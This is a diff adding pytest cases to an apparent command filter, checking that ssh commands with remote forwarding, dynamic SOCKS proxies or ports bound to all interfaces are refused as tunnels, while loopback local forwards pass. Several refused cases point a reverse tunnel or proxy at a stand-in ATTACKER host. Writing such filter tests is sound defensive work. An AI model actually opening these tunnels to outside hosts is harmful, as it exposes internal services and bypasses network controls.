@@ -422,3 +422,38 @@ def test_package_manager_settings_that_run_a_program_later(command: str) -> None
 )
 def test_package_manager_plain_settings_pass(command: str) -> None:
     _allowed(command)
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        f"ssh -fNR 8080:localhost:80 u@{ATTACKER}",
+        f"ssh -NfD 1080 u@{ATTACKER}",
+        f"ssh -gL 8080:localhost:80 u@{ATTACKER}",
+        f"ssh -L 0.0.0.0:8080:localhost:80 u@{ATTACKER}",
+        "ssh -L *:8080:localhost:80 u@h",
+        "ssh -L 192.168.1.5:8080:db:5432 h",
+        f"ssh -o RemoteForward='8080 localhost:80' u@{ATTACKER}",
+        "ssh -oRemoteForward=8080:localhost:80 u@h",
+        "ssh -o DynamicForward=1080 u@h",
+        "ssh -o 'GatewayPorts yes' -L 8080:localhost:80 u@h",
+        "ssh -o LocalForward='0.0.0.0:8080 localhost:80' u@h",
+    ],
+)
+def test_ssh_forwarding_in_clusters_and_config_spellings(command: str) -> None:
+    _refused(command, "tunnel")
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "ssh -L 8080:localhost:80 u@h",
+        "ssh -N -L 5432:db.internal:5432 bastion",
+        "ssh -L 127.0.0.1:8080:db.internal:5432 u@h",
+        "ssh -o 'LocalForward 8080 localhost:80' u@h",
+        "ssh -o StrictHostKeyChecking=no u@h uptime",
+        "ssh -p 2222 -i ~/.ssh/id_ed25519 deploy@h uptime",
+    ],
+)
+def test_ssh_local_forwards_on_loopback_pass(command: str) -> None:
+    _allowed(command)
